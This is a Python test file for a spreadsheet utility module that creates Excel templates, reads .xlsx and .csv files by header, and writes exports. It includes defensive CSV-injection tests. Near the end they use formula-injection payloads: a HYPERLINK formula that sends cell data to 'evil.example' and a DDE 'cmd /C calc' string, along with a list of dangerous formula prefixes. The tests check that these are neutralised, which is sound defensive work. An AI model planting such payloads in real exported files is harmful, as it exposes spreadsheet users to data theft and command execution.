"""kit/excel, with no domain: templates with drop-downs (inline and on a hidden sheet), reading .xlsx and .csv
by Chinese or English header with the row numbers the user sees, dates and numbers in cells, lists written
without formulas, and files refused with the problem named."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from jiayuan.kit import excel
from jiayuan.kit.errors import Invalid

COLUMNS = (
    excel.Column("name", "姓名", required=True),
    excel.Column("code", "编码", text=True),
    excel.Column("kind", "类型", choices=("甲", "乙")),
    excel.Column("when", "日期"),
)


def _xlsx(rows: list[list]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_template_header_lists_and_notes() -> None:
    long = tuple(f"选项{i:03d}" for i in range(100))  # too long for an inline list
    data = excel.template(COLUMNS, sheet="数据", notes=("第一行是表头",), choices={"code": long})
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames[:2] == ["数据", "说明"] and book[excel.LISTS_SHEET].sheet_state == "hidden"
    sheet = book["数据"]
    assert [c.value for c in sheet[1]] == ["姓名*", "编码", "类型", "日期"]
    assert sheet["A1"].comment.text.startswith("name (必填)")
    formulas = {str(dv.sqref): dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert formulas == {"C2:C1048576": '"甲,乙"', "B2:B1048576": "'选项'!$A$1:$A$100"}
    assert [book[excel.LISTS_SHEET].cell(row=r, column=1).value for r in (1, 100)] == ["选项000", "选项099"]
    assert sheet.column_dimensions["B"].number_format == "@"
    notes = [[c.value for c in row] for row in book["说明"].iter_rows()]
    assert notes[0] == ["第一行是表头", None, None, None, None]
    assert ["姓名", "name", "是", None, None] in notes and ["类型", "kind", None, None, "甲、乙"] in [
        [v or None for v in row] for row in notes]
    # An untouched template reads as a table without rows.
    assert list(excel.read_table(data, "t.xlsx", COLUMNS).rows) == []


def test_rows_by_key_with_the_row_numbers_the_user_sees() -> None:
    data = _xlsx([["说明：请从第三行填写"], ["编码", "姓名 *", "多余的列", "kind"], ["001", " 张三 ", "x", "甲"], [],
                  [None, "李四", None, None, datetime(2026, 5, 1)]])
    table = excel.read_table(data, "名单.xlsx", COLUMNS)
    assert table.columns == ["code", "name", "kind"] and table.unknown == ["多余的列"]
    rows = list(table.rows)
    assert rows == [(3, {"code": "001", "name": "张三", "kind": "甲"}), (5, {"code": None, "name": "李四", "kind": None})]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_csv_in_each_encoding(encoding: str) -> None:
    data = "姓名,编码,日期\n张三,00123,2026/5/1\n\n\"王\n五\",7,\n".encode(encoding)
    rows = list(excel.read_table(data, "a.csv", COLUMNS).rows)
    assert rows == [(2, {"name": "张三", "code": "00123", "when": "2026/5/1"}),
                    (4, {"name": "王\n五", "code": "7", "when": None})]


@pytest.mark.parametrize(("data", "name", "problem"), [
    (b"", "a.csv", "empty"),
    (b"hello", "a.txt", "not_table"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.xls", "xls"),
    (b"PK\x03\x04 not really", "a.xlsx", "unreadable"),
    ("编码\n1\n".encode(), "a.csv", "missing_columns"),
    ("姓名,name\n".encode(), "a.csv", "duplicate_column"),
    (b"\xff\xfe\x00\x00", "a.csv", "encoding"),
])
def test_bad_files_name_the_problem(data: bytes, name: str, problem: str) -> None:
    with pytest.raises(Invalid) as caught:
        excel.read_table(data, name, COLUMNS)
    assert caught.value.field == "file" and caught.value.details["problem"] == problem
    if problem == "missing_columns":
        assert caught.value.details["columns"] == ["姓名 (name)"] and "姓名 (name)" in caught.value.message


def test_cell_values() -> None:
    assert excel.cell_text(13812345678.0) == "13812345678" and excel.cell_text("  ") is None
    assert excel.cell_text(datetime(2026, 5, 1)) == "2026-05-01" and excel.cell_text("（全角）") == "（全角）"
    for value in ("2026-05-01", "2026/5/1", "2026年5月1日", "２０２６-05-01", datetime(2026, 5, 1), 46143):
        assert excel.cell_date(value) == date(2026, 5, 1), value
    assert excel.cell_date(None) is None
    for bad in ("tomorrow", "2026-02-30"):
        with pytest.raises(ValueError):
            excel.cell_date(bad)


def test_lists_are_written_without_formulas() -> None:
    data = excel.write_list([excel.Column("a", "甲"), "乙"], [["=HYPERLINK(\"http://x\")", 1], [None, "+1"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["甲", "乙"], ['=HYPERLINK("http://x")', 1],
                                                                       [None, "+1"]]
    assert sheet["A2"].data_type == "s"
    report = load_workbook(io.BytesIO(excel.error_report([(3, "姓名", "必填")]))).active
    assert [[c.value for c in row] for row in report.iter_rows()] == [["行", "列", "原因"], [3, "姓名", "必填"]]


def _shared_strings(data: bytes) -> bytes:
    """The workbook with its text moved into a shared-string table, as Excel and WPS write it (openpyxl writes
    inline strings only)."""
    import re
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(data))
    strings: dict[str, int] = {}

    def share(m: re.Match) -> str:
        index = strings.setdefault(m.group(2), len(strings))
        return f'<c{m.group(1)} t="s"><v>{index}</v></c>'

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            part = source.read(name)
            if name.startswith("xl/worksheets/"):
                part = re.sub(r'<c([^>]*?) t="inlineStr"><is><t[^>]*>(.*?)</t></is></c>', share,
                              part.decode()).encode()
            elif name == "xl/_rels/workbook.xml.rels":
                part = part.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats'
                                    b'.org/officeDocument/2006/relationships/sharedStrings" Target="/xl/sharedStrings'
                                    b'.xml"/></Relationships>')
            elif name == "[Content_Types].xml":
                part = part.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
            target.writestr(name, part)
        items = "".join(f"<si><t>{s}</t></si>" if i % 2 else f"<si><r><t>{s}</t></r><rPh sb='0' eb='1'><t>x</t></rPh></si>"
                        for i, s in enumerate(strings))  # plain items and rich-text runs with a phonetic guide
        target.writestr("xl/sharedStrings.xml", '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                        f'main" count="{len(strings)}">{items}</sst>')
    return out.getvalue()


def _both(data: bytes) -> tuple[list, list]:
    fast = [(n, list(r)) for n, r in excel._fast_xlsx_rows(data)[0]]
    slow = [(n, list(r)) for n, r in excel._openpyxl_rows(data)[0]]
    # openpyxl pads every row to the sheet's width and yields blank rows; compare what they hold.
    trim = lambda rows: [(n, r[:max((i + 1 for i, v in enumerate(r) if v is not None), default=0)])  # noqa: E731
                         for n, r in rows if any(v is not None for v in r)]
    return trim(fast), trim(slow)


@pytest.mark.parametrize("epoch", ["1900", "1904"])
def test_the_fast_reader_reads_what_openpyxl_reads(epoch: str) -> None:
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont
    from openpyxl.utils.datetime import MAC_EPOCH

    book = Workbook()
    if epoch == "1904":
        book.epoch = MAC_EPOCH
    sheet = book.active
    sheet.append(["姓名", "编码", "类型", "日期", "数", "真假", "公式"])
    sheet.append(["张三 & <李四>", "00123", "甲", datetime(2026, 5, 1), 3.5, True, "=1+1"])
    sheet.append([None, 360802198001011000, "乙", date(1999, 12, 31), -2, False])
    sheet["A5"] = CellRichText("粗", TextBlock(InlineFont(b=True), "体"))
    sheet["C7"] = "隔行"
    sheet["D7"] = datetime(2026, 5, 1, 8, 30)
    sheet["D7"].number_format = "yyyy-mm-dd hh:mm"
    out = io.BytesIO()
    book.save(out)
    for data in (out.getvalue(), _shared_strings(out.getvalue())):
        fast, slow = _both(data)
        assert fast == slow
        assert fast[1] == (2, ["张三 & <李四>", "00123", "甲", datetime(2026, 5, 1), 3.5, True])
        assert fast[3] == (5, ["粗体"]) and fast[4] == (7, [None, None, "隔行", datetime(2026, 5, 1, 8, 30)])
    total = excel._fast_xlsx_rows(out.getvalue())[1]
    assert total == 7


def test_a_workbook_the_fast_reader_cannot_place_goes_to_openpyxl(monkeypatch) -> None:  # noqa: ANN001
    data = excel.write_list(COLUMNS, [["张三", "1", "甲", None]])

    def broken(_data: bytes) -> None:
        raise KeyError("xl/workbook.xml")

    monkeypatch.setattr(excel, "_fast_xlsx_rows", broken)
    assert list(excel.read_table(data, "a.xlsx", COLUMNS).rows) == [
        (2, {"name": "张三", "code": "1", "kind": "甲", "when": None})]


# Every prefix that makes Excel or WPS take text for a formula (OWASP "CSV injection"), ASCII and full-width.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =")


def formula_free(data: bytes) -> list[list[object]]:
    """Every sheet's values, after asserting that no cell is a formula and that text which looks like one carries
    the quote prefix (so that editing the cell in Excel keeps it text)."""
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(
                        tuple(p.strip(" ") for p in DANGEROUS) + ("\n",)):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
            # XML reads a carriage return back as a line feed; everything else comes back as written.
            cells = [c.value.replace("\n", "\r") if isinstance(c.value, str) and "\n" in c.value else c.value
                     for c in row]
            while cells and cells[-1] is None:
                cells.pop()
            values.append(cells)
    return values


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_text_that_looks_like_a_formula_is_written_as_text_by_every_writer(prefix: str) -> None:
    evil = f'{prefix}HYPERLINK("http://evil.example/?d="&A1,"点我")'
    rows = [[evil, -5, 2.5, f"{prefix}cmd|' /C calc'!A0"], ["普通文字", 0, None, "a-b"]]
    listed = formula_free(excel.write_list(["名称", "数", "小数", "备注"], rows, title=evil))
    assert listed[0] == [evil] and listed[2] == rows[0] and listed[3] == ["普通文字", 0, None, "a-b"]
    booked = formula_free(excel.write_book([(f"表{prefix.strip()}", [excel.Column("a", evil)], [[evil], [-1]])]))
    assert booked == [[evil], [evil], [-1]]
    assert formula_free(excel.error_report([(2, evil, evil)]))[1] == [2, evil, evil]
    # A template's drop-down options (grid names from the database) and its notes are written as cells too.
    options = [f"{evil}{i}" for i in range(60)]
    made = formula_free(excel.template([excel.Column("grid", "网格", choices=tuple(options), note=evil)],
                                       notes=[evil]))
    assert [evil] in made and [f"{evil}0"] in made


def test_numbers_dates_and_plain_text_are_left_alone() -> None:
    data = excel.write_list(["a", "b", "c", "d"], [[-3, -0.5, datetime(2026, 1, 5, 9), "1-2"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.data_type for c in sheet[2]] == ["n", "n", "d", "s"]
    assert not any(c.quotePrefix for c in sheet[2])
